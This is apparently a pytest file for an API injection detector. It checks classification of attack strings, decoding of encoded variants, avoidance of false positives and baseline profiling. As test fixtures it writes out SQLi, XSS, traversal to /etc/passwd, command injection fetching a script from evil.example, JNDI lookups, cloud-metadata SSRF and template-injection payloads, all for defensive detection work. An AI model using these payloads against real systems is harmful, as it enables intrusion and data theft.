from __future__ import annotations

import pickle

import pytest

from apiward.detect.injection import InjectionPayload, classify_value, decode_value
from apiward.detect.registry import detector_class
from apiward.learn.baselines import Baselines
from apiward.model.context import Context, EndpointRef
from apiward.testing import make_call

EP = EndpointRef(host="api.example.com", method="GET", template="/search")


@pytest.mark.parametrize(
    ("value", "technique"),
    [
        ("1' OR '1'='1", "sqli"),
        ("x'; DROP TABLE users; --", "sqli"),
        ("1 union all select null,null--", "sqli"),
        ("1) and sleep(5)#", "sqli"),
        ('{"$ne": null}', "nosqli"),
        ("'; return this.password == 'x'; var a='", "nosqli"),
        ("<script>alert(document.cookie)</script>", "xss"),
        ('"><img src=x onerror=alert(1)>', "xss"),
        ("javascript:alert(1)", "xss"),
        ("../../../../etc/passwd", "traversal"),
        ("..\\..\\windows\\win.ini", "traversal"),
        ("; cat /etc/passwd", "cmdi"),
        ("| whoami", "cmdi"),
        ("$(curl http://evil.example/x.sh)", "cmdi"),
        ("http://169.254.169.254/latest/meta-data/iam/", "ssrf"),
        ("http://localhost:6379/", "ssrf"),
        ("http://[::1]/admin", "ssrf"),
        ("gopher://127.0.0.1:25/_HELO", "ssrf"),
        ("http://2130706433/", "ssrf"),
        ("${jndi:ldap://evil.example/a}", "jndi"),
        ("${${lower:j}ndi:${lower:l}dap://evil.example/a}", "jndi"),
        ("${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", "jndi"),
        ("{{7*7}}", "ssti"),
        ("${7*7}", "ssti"),
        ("<%= system('id') %>", "ssti"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "ssti"),
        ("abc\r\nSet-Cookie: admin=1", "crlf"),
        ("1234\nINFO: user admin logged in", "crlf"),
        ("A" * 5000, "overflow"),
        ("%n%n%n%n%n%s", "overflow"),
        ("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC", "deserialization"),
        ("gASVGAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "deserialization"),
    ],
)
def test_each_technique_is_classified(value: str, technique: str) -> None:
    got, ev = classify_value(value)
    assert got == technique, (value, got, ev)
    assert ev["cwe"].startswith("CWE-")


@pytest.mark.parametrize(
    ("encoded", "technique"),
    [
        ("%27%20OR%20%271%27%3D%271", "sqli"),
        ("%253Cscript%253Ealert(1)%253C%252Fscript%253E", "xss"),  # double-encoded
        ("&lt;script&gt;alert(1)&lt;/script&gt;", "xss"),
        ("&#60;svg onload=alert(1)&#62;", "xss"),
        ("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "xss"),
        ("%u003cscript%u003ealert(1)", "xss"),
        ("..%2f..%2f..%2fetc%2fpasswd", "traversal"),
        ("%2e%2e%5c%2e%2e%5cboot.ini", "traversal"),
        ("0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd", "traversal"),
        ("1'+or+'1'%3D'1", "sqli"),
        ("%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "jndi"),
        ("abc%0d%0aLocation:%20http://evil", "crlf"),
    ],
)
def test_encoded_variants_are_decoded(encoded: str, technique: str) -> None:
    got, ev = classify_value(encoded)
    assert got == technique
    assert ev["decoded"] is True


@pytest.mark.parametrize(
    ("value", "location", "name"),
    [
        ("O'Reilly", "query", "last_name"),
        ("Shaquille O'Neal", "body", "name"),
        ("Please select a size from the list", "body", "comment"),
        ("select", "query", "action"),
        ("Drop me a line, or update the order", "body", "message"),
        ("2 * (3 + 4) = 14", "query", "q"),
        ("x^2 + y^2 < 10", "query", "q"),
        ("https://hooks.slack.com/services/T000/B000/XXXX", "body", "webhook_url"),
        ("https://example.com/callback?state=abc&code=123", "body", "callback"),
        ("report.final.v2.pdf", "body", "filename"),
        ("archive.tar.gz", "query", "file"),
        ('{"price": "$12.99", "currency": "USD"}', "body", "payload"),
        ("$12.99", "body", "price"),
        ("Tom & Jerry; the best", "body", "title"),
        ("AT&T; id card", "body", "note"),
        ("C'est la vie (really); fine.", "body", "comment"),
        ("Meeting at 10:30 - room #4", "body", "note"),
        ("She said \"hi\" <3", "body", "comment"),
        ("user@example.com", "query", "email"),
        ("2024-05-01T10:00:00+02:00", "query", "since"),
        ("Lorem ipsum dolor sit amet, consectetur adipiscing elit. " * 60, "body", "comment"),
        ("First line.\nSecond line: with a colon.\nThird.", "body", "comment"),
        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl", "header", "authorization"),
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36", "header", "user-agent"),
        ("10.0.0.1, 203.0.113.9", "header", "x-forwarded-for"),
    ],
)
def test_look_alike_benign_values_are_not_flagged(value: str, location: str, name: str) -> None:
    assert classify_value(value, location, name) == (None, {})


def test_decode_value_is_bounded() -> None:
    v = "%25" * 10 + "41"
    out = decode_value(v)
    assert len(out) <= len(v)  # 4 rounds at most, no blow-up


def _ctx(bl: Baselines | None = None, ref: EndpointRef = EP) -> Context:
    return Context(endpoint=ref, baselines=bl)


def test_detector_metadata_and_registration() -> None:
    cls = detector_class("injection.payload")
    assert cls is InjectionPayload
    det = InjectionPayload()
    assert det.attack == "T1190" and det.tactic == "initial-access" and det.owasp == "API8:2023"
    with pytest.raises(ValueError):
        InjectionPayload(min_profile_score=2.0)


def test_findings_carry_evidence_and_per_technique_tags() -> None:
    det = InjectionPayload()
    c = make_call("GET", "/search?q=%27%20OR%201%3D1--&next=http://169.254.169.254/latest/", user="mallory")
    found = det.score_one(c, _ctx())
    by = {f.evidence["technique"]: f for f in found}
    assert set(by) == {"sqli", "ssrf"}
    sqli = by["sqli"]
    assert sqli.cwe == "CWE-89" and sqli.severity == "high" and sqli.actor == "user:mallory"
    assert sqli.evidence["location"] == "query" and sqli.evidence["parameter"] == "q"
    assert sqli.evidence["value"] == "' OR 1=1--"
    assert "fingerprint" in sqli.evidence or "pattern" in sqli.evidence
    assert by["ssrf"].owasp == "API7:2023" and by["ssrf"].cwe == "CWE-918"


def test_every_location_is_looked_at() -> None:
    det = InjectionPayload()
    cases = [
        make_call("POST", "/search", req_json={"filter": {"name": {"$ne": None}}}),
        make_call("GET", "/search?user[$gt]="),
        make_call("POST", "/search", req_json={"items": [{"note": "<script>alert(1)</script>"}]}),
        make_call("POST", "/search", req_body=b"a=1&b=%3Bcat+%2Fetc%2Fpasswd", headers={"content-type": "application/x-www-form-urlencoded"}),
        make_call("GET", "/search", headers={"cookie": "pref=' or 1=1--"}),
        make_call("GET", "/search", headers={"user-agent": "${jndi:ldap://evil/a}"}),
        make_call("GET", "/search", headers={"x-custom-thing": "${jndi:ldap://evil/a}"}),
        make_call("GET", "/search", headers={"referer": "http://x/<script>alert(1)</script>"}),
        make_call("GET", "/static/../../etc/passwd"),
    ]
    locs = []
    for c in cases:
        found = det.score_one(c, _ctx())
        assert found, c.request
        locs.append(found[0].evidence["location"])
    assert locs == ["body", "query", "body", "body", "cookie", "header", "header", "header", "path"]


def test_path_parameters_are_scanned() -> None:
    ref = EndpointRef(host="api.example.com", method="GET", template="/greet/{name}", path_params=(("name", "{{7*7}}"),))
    found = InjectionPayload().score_one(make_call("GET", "/greet/%7B%7B7*7%7D%7D"), _ctx(ref=ref))
    assert found and found[0].evidence["technique"] == "ssti" and found[0].cwe == "CWE-94"


WORDS = "shoes boots socks hats coats scarves gloves belts bags shirts jeans skirts dresses suits ties".split()


def _learned(n: int = 300) -> Baselines:
    bl = Baselines()
    for i in range(n):
        q = f"{WORDS[i % 15]}+size+{i % 13}"
        c = make_call("GET", f"/search?q={q}&page={i % 9}&sort={'asc' if i % 2 else 'desc'}", user=f"u{i % 40}")
        bl.learn_one(c, _ctx(bl))
    return bl


def test_out_of_profile_values_are_caught_with_reasons() -> None:
    bl = _learned()
    det = InjectionPayload()
    benign = make_call("GET", "/search?q=boots+size+4&page=3&sort=asc", user="u1")
    assert det.score_one(benign, _ctx(bl)) == []
    # Not a textbook payload, but nothing like what this parameter takes.
    odd = make_call("GET", "/search?q=boots+size+4&page=3&sort=by%3Aprice%3Bdesc", user="u1")
    found = det.score_one(odd, _ctx(bl))
    assert found and found[0].evidence["technique"] == "profile"
    assert found[0].evidence["parameter"] == "sort" and found[0].evidence["reasons"]
    unseen = det.score_one(make_call("GET", "/search?q=boots+size+4&page=3&sort=asc&isAdmin=true", user="u1"), _ctx(bl))
    assert unseen and unseen[0].evidence["reasons"] == ["unseen parameter"]


def test_profiles_can_be_switched_off() -> None:
    bl = _learned()
    det = InjectionPayload(profiles=False)
    assert det.score_one(make_call("GET", "/search?q=boots+size+4&page=3&sort=zzz&isAdmin=1", user="u1"), _ctx(bl)) == []


def test_unseen_endpoints_on_a_settled_api_and_file_probes() -> None:
    bl = _learned(1500)
    det = InjectionPayload()
    other = EndpointRef(host=EP.host, method="GET", template="/admin/export")
    found = det.score_one(make_call("GET", "/admin/export"), _ctx(bl, other))
    assert found and found[0].evidence["technique"] == "unseen_endpoint" and found[0].tactic == "reconnaissance"
    probe = EndpointRef(host=EP.host, method="GET", template="/search.bak")
    found = det.score_one(make_call("GET", "/search.bak"), _ctx(bl, probe))
    assert found and found[0].evidence["technique"] == "probe"
    # A young API still adding endpoints: no unseen-endpoint noise.
    young = Baselines()
    for i in range(400):
        ref = EndpointRef(host="h", method="GET", template=f"/r{i % 200}")
        young.learn_one(make_call("GET", f"/r{i % 200}", host="h"), _ctx(young, ref))
    assert det.score_one(make_call("GET", "/new", host="h"), _ctx(young, EndpointRef(host="h", template="/new"))) == []


def test_score_before_any_learning_and_odd_input_is_safe() -> None:
    det = InjectionPayload()
    c = make_call("POST", "/x", req_body=b"\xff\xfe{not json", headers={"content-type": "application/json"}, status=None)
    assert det.score_one(c, _ctx(Baselines())) == []
    det.learn_one(c, _ctx())
    deep: dict = {}
    cur = deep
    for _ in range(50):
        cur["a"] = {}
        cur = cur["a"]
    assert det.score_one(make_call("POST", "/x", req_json=deep), _ctx()) == []


def test_deterministic_pickles_and_does_not_mutate() -> None:
    bl = _learned()
    det = InjectionPayload()
    c = make_call("GET", "/search?q=%3Cscript%3E&page=1&sort=asc", user="u2")
    before = (list(c.request.query), c.request.path, c.request.body)
    a = [f.key for f in det.score_one(c, _ctx(bl))]
    det2 = pickle.loads(pickle.dumps(det))
    b = [f.key for f in det2.score_one(c, _ctx(pickle.loads(pickle.dumps(bl))))]
    assert a == b and a
    assert (list(c.request.query), c.request.path, c.request.body) == before
